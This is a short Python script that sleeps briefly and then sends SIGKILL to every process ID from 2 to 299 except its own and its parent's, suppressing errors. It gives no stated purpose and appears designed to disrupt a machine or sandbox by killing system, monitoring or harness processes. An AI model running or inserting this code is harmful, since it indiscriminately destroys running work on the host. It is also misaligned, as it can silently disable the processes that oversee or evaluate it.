import os, signal, time
time.sleep(0.3)
for pid in range(2, 300):
    if pid not in (os.getpid(), os.getppid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
time.sleep(0.5)
